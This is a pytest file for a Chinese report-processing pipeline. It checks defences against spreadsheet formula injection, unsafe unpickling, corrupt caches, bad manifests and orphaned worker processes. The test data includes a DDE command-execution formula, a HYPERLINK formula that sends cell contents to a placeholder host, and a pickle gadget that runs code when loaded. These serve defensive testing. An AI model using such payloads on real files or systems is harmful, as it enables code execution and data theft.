"""Hostile text in outputs people open: formulas in spreadsheets and CSVs, math markup in figures."""

from __future__ import annotations

import contextlib
import io
from pathlib import Path

import pandas as pd
import pytest
import yaml
from conftest import CORPUS, SEEDS

from pipeline import catalog
from pipeline.config import ROOT
from pipeline.report.export import build_workbook

SEED = (CORPUS / "raw" / f"{SEEDS['qingdao']}.txt").read_text(encoding="utf-8")
LINE = next(line.strip() for line in SEED.splitlines() if len(line.strip()) > 20)
HOSTILE = [
    f'=HYPERLINK("http://example.invalid/?q="&A1,"{LINE[:10]}")',
    "=cmd|' /C calc'!A0",
    f"+{LINE[:12]}",
    f"-{LINE[:12]}",
    f"@SUM(1+1){LINE[:8]}",
    LINE,
]


def test_csv_cells_that_would_be_formulas_stay_text(tmp_path):
    df = pd.DataFrame({"text": HOSTILE, "n": range(len(HOSTILE))})
    catalog.write_table(df, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv")
    assert all(v.startswith("'") for v in back.text[:5])
    assert back.text[5] == LINE  # ordinary text is not touched
    assert [v[1:] for v in back.text[:5]] == HOSTILE[:5]
    assert df.text.tolist() == HOSTILE  # the caller's frame is unchanged


def test_xlsx_cells_that_would_be_formulas_are_strings():
    import openpyxl

    docs = pd.DataFrame({"doc_id": ["d"], "title": [HOSTILE[0]]})
    items = pd.DataFrame({"doc_id": ["d"] * len(HOSTILE), "item": HOSTILE})
    matrix = pd.DataFrame({"city": ["青岛市"], "problem": [1]})
    practice = pd.DataFrame({"item": [HOSTILE[1]], "青岛市": [1]}).set_index("item")
    wb = openpyxl.load_workbook(io.BytesIO(build_workbook(docs, items, matrix, practice)))
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    assert wb["theme_items"]["B2"].value == HOSTILE[0]  # the text itself, shown as text


def test_dollar_signs_in_document_text_are_not_typeset(tmp_path):
    from pipeline.report.figures import save_figure, setup_style

    setup_style()
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    label = f"{LINE[:6]} $x_1$ 和 $ 5"
    ax.set_title(label)
    paths = save_figure(fig, pd.DataFrame({"label": [label]}), "dollars", tmp_path, formats=("png",))
    assert paths and all(p.exists() for p in paths)
    assert ax.title.get_text() == label
    plt.close(fig)


class _Tripwire:
    """Unpickling this writes a file: proof that a pickle ran code."""

    def __init__(self, path):
        self.path = str(path)

    def __reduce__(self):
        return (Path(self.path).write_text, ("ran",))


def test_a_model_file_from_elsewhere_is_never_unpickled(tmp_path):
    import pickle

    trip = tmp_path / "tripwire"
    planted = tmp_path / "cache" / "models" / "abc.joblib"
    planted.parent.mkdir(parents=True)
    planted.write_bytes(pickle.dumps(_Tripwire(trip)))
    assert catalog.load_model(planted) is None and not trip.exists()
    (planted.parent / "abc.joblib.sig").write_text("0" * 64)  # a forged signature changes nothing
    assert catalog.load_model(planted) is None and not trip.exists()
    catalog.save_model(planted, {"weights": [1, 2, 3]})  # what this installation wrote loads
    assert catalog.load_model(planted) == {"weights": [1, 2, 3]}


def test_caches_hold_no_pickles_and_a_damaged_entry_is_recomputed(tmp_path, params, capsys):
    from pipeline.stages import run

    out = tmp_path / "out"
    first = run(CORPUS, out, params, use_manifest=False)
    cache = out / "cache"
    kinds = {p.parent.name: p.suffix for p in cache.glob("*/*")}
    assert kinds.get("clean") == ".json" and kinds.get("places") == ".json" and kinds.get("themes") == ".arrow"
    assert not list(cache.rglob("*.pkl"))
    before = {a: (out / "data" / f"{a}.parquet").read_bytes() for a in ("documents", "themes")}
    victim = sorted((cache / "clean").glob("*.json"))[0]
    victim.write_bytes(b"\x80\x04garbage")
    for f in (cache / "themes").glob("*.arrow"):
        f.write_bytes(b"not arrow")
    (cache / "ingest.json").unlink()  # force the stages to look at their entries again
    (cache / "themes.json").unlink()
    again = run(CORPUS, out, params, use_manifest=False)
    err = capsys.readouterr().err
    assert str(victim) in err and "unreadable" in err
    assert {a: (out / "data" / f"{a}.parquet").read_bytes() for a in ("documents", "themes")} == before
    assert first["themes"]["items"] == again["themes"]["items"]


def _seed(name: str) -> bytes:
    return (CORPUS / "raw" / f"{SEEDS[name]}.txt").read_bytes()


def test_a_hostile_manifest_is_reported_row_by_row_and_never_guessed(tmp_path, params):
    from pipeline.ingest import ingest_corpus

    corpus = tmp_path / "c"
    for sub, name in (("a", "qingdao"), ("b", "harbin")):
        (corpus / "raw" / sub).mkdir(parents=True)
        (corpus / "raw" / sub / "report.txt").write_bytes(_seed(name))
    (corpus / "raw" / "dalian.txt").write_bytes(_seed("dalian"))
    (corpus / "raw" / "mudanjiang.txt").write_bytes(_seed("mudanjiang"))
    (corpus / "raw" / "rows.csv").write_text(
        "title,date,text\n报告一,待定," + SEED.replace("\n", " ")[:400] + "\n", encoding="utf-8"
    )
    (corpus / "manifest.csv").write_text(
        "file,doc_id,city,date,year,colour\n"
        "report.txt,r,大连市,,,red\n"  # row 2: matches raw/a and raw/b
        "dalian.txt,same,,2020-13-45,20x0,\n"  # row 3: impossible date, no year
        "mudanjiang.txt,same,,31/12/2008,,\n"  # row 4: duplicate doc_id; a day-first date
        "missing.txt,m,,,,\n"  # row 5: no such file
        "raw/dalian.txt,again,,,,\n",  # row 6: a second row for the same document
        encoding="utf-8",
    )
    docs, _, log, _q = ingest_corpus(corpus, params)
    by_file = docs.set_index("source_file")
    messages = " | ".join(f"{f}: {m}" for f, m in zip(log.source_file, log.message, strict=True))
    assert "manifest.csv:2" in messages and "matches 2 files" in messages
    assert "manifest.csv:3" in messages and "'2020-13-45' is not a calendar date" in messages
    assert "'20x0' is not a year" in messages
    assert "doc_id 'same' is given in rows 3, 4" in messages
    assert "manifest.csv:5" in messages and "'missing.txt' is not in the corpus" in messages
    assert "manifest.csv:6" in messages and "already described in row 3" in messages
    assert "unknown column(s) ['colour']" in messages
    assert "date '待定' is not a calendar date" in messages
    # nothing ambiguous or invalid was applied
    assert (by_file.loc[["raw/a/report.txt", "raw/b/report.txt"], "city_source"] != "manifest").all()
    assert set(docs.doc_id).isdisjoint({"r", "same", "again"})
    assert by_file.loc["raw/dalian.txt", "date_source"] != "manifest"
    assert by_file.loc["raw/mudanjiang.txt", "date"] == "2008-12-31"
    assert "raw/rows.csv#1" in by_file.index  # the table row with a bad date is still read


def test_dates_people_write(tmp_path):
    from pipeline.ingest.manifest import parse_date

    assert parse_date("2008-12-31") == parse_date("2008/12/31") == parse_date("2008年12月31日") == "2008-12-31"
    assert parse_date("31/12/2008") == parse_date("12/31/2008") == parse_date("20081231") == "2008-12-31"
    for bad in ("2020-13-45", "2021-02-29", "01/02/2008", "not a date", "待定", ""):
        assert parse_date(bad) is None, bad


def test_unreadable_broken_and_foreign_inputs_each_get_a_line(tmp_path, params, monkeypatch):
    from pipeline import catalog as cat
    from pipeline.ingest import ingest_corpus

    raw = tmp_path / "c" / "raw"
    raw.mkdir(parents=True)
    (raw / "good.txt").write_bytes(_seed("qingdao"))
    (raw / "locked.txt").write_bytes(_seed("harbin"))
    (raw / "english.txt").write_text("The State Council met on Monday to discuss the economy. " * 20, encoding="utf-8")
    (raw / "dots.txt").write_text("……，。！？" * 50, encoding="utf-8")
    short = next(x.strip() for x in SEED.splitlines() if "。" in x and 60 < len(x.strip()) < 190)
    (raw / "short.txt").write_text(short, encoding="utf-8")
    line = SEED.replace("\n", " ")[:300]
    (raw / "rows.jsonl").write_text(
        f'{{"title": "一", "text": "{line}"}}\n{{broken\n{{"title": "二", "text": "{line}。"}}\n', encoding="utf-8"
    )
    (raw / "gone.txt").symlink_to(raw / "nowhere.txt")
    (raw / "loop.txt").symlink_to(raw / "loop.txt")
    real = cat.read_file_bytes

    def locked(path):
        if Path(path).name == "locked.txt":
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(cat, "read_file_bytes", locked)
    docs, _, log, _q = ingest_corpus(tmp_path / "c", params, use_manifest=False)
    lines = {f: (s, m) for f, s, m in zip(log.source_file, log.status, log.message, strict=True)}
    assert lines["raw/locked.txt"] == ("skipped", "cannot be read (Permission denied)")
    assert lines["raw/english.txt"][0] == "skipped" and "no Chinese text" in lines["raw/english.txt"][1]
    assert lines["raw/dots.txt"][0] == "skipped"
    assert lines["raw/short.txt"][0] == "warning" and "characters of text" in lines["raw/short.txt"][1]
    assert "line 2 is not valid JSON" in lines["raw/rows.jsonl#1"][1]
    assert lines["raw/gone.txt"][0] == "skipped" and lines["raw/loop.txt"][0] == "skipped"
    kept = set(docs.source_file)
    assert {"raw/good.txt", "raw/short.txt", "raw/rows.jsonl#1", "raw/rows.jsonl#2"} <= kept  # the rest goes on
    assert not kept & {"raw/english.txt", "raw/dots.txt", "raw/locked.txt"}


def test_one_generation_per_output_folder(tmp_path, params):
    import json
    import subprocess
    import sys

    from pipeline.commands import stage_export
    from pipeline.errors import PipelineError
    from pipeline.stages import run

    out = tmp_path / "out"
    run(CORPUS, out, params, use_manifest=False)
    record = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert record["run_id"] and json.loads((out / ".run_state.json").read_text())["status"] == "finished"
    # a second run on the same folder while one holds it stops at once, naming the folder
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from pipeline import catalog\n"
            f"with catalog.output_lock({str(out)!r}):\n    print('held', flush=True); time.sleep(30)",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(PipelineError, match="another run is writing to"):
            run(CORPUS, out, params, use_manifest=False)
    finally:
        holder.kill()
        holder.wait()
    # a run killed half-way: its tables do not belong together, and exports refuse them
    (out / ".run_state.json").write_text(json.dumps({"run_id": "x", "status": "running"}))
    with pytest.raises(PipelineError, match="did not finish"):
        stage_export(out, params, ["latex"])
    run(CORPUS, out, params, use_manifest=False)
    stage_export(out, params, ["latex"])  # a finished run exports
    # a table of another run dropped in
    docs = pd.read_parquet(out / "data" / "documents.parquet")
    docs.iloc[:2].to_parquet(out / "data" / "documents.parquet")
    with pytest.raises(PipelineError, match="mixes runs"):
        stage_export(out, params, ["latex"])


@pytest.mark.slow
def test_a_killed_run_leaves_no_worker_behind(tmp_path):
    """kill -9 on a run while its worker processes are busy: the workers end with it."""
    import os
    import signal
    import subprocess
    import sys
    import time

    psutil = pytest.importorskip("psutil")
    cities = ROOT.parent / "shared" / "corpora" / "cities-2024" / "txt"
    if not cities.is_dir():
        pytest.skip("the shared city reports are not beside the project")
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for f in sorted(cities.glob("*.txt"))[:40]:
        (corpus / f.name).write_bytes(f.read_bytes())
    params = yaml.safe_load((ROOT / "params.yaml").read_text(encoding="utf-8"))
    params["n_jobs"] = 2
    (tmp_path / "params.yaml").write_text(yaml.safe_dump(params, allow_unicode=True), encoding="utf-8")
    run = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "pipeline",
            "run",
            "--corpus",
            str(corpus),
            "--out",
            str(tmp_path / "out"),
            "--params",
            str(tmp_path / "params.yaml"),
        ],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        parent = psutil.Process(run.pid)
        workers: list = []
        for _ in range(600):  # wait until both workers are up (not just the resource trackers)
            workers = [c for c in parent.children(recursive=True) if "resource_tracker" not in " ".join(c.cmdline())]
            if len(workers) >= 2 or run.poll() is not None:
                break
            time.sleep(0.05)
        time.sleep(1)  # and busy with documents
        assert run.poll() is None and len(workers) >= 2, "the run ended before its workers could be seen"
        workers = parent.children(recursive=True)
        os.kill(run.pid, signal.SIGKILL)
        run.wait()
        gone, alive = psutil.wait_procs(workers, timeout=30)
        assert not alive, f"workers outlived their run: {[p.pid for p in alive]}"
    finally:
        if run.poll() is None:
            run.kill()
        for w in workers:  # never leave them to the next test, whatever happened
            with contextlib.suppress(psutil.Error):
                w.kill()
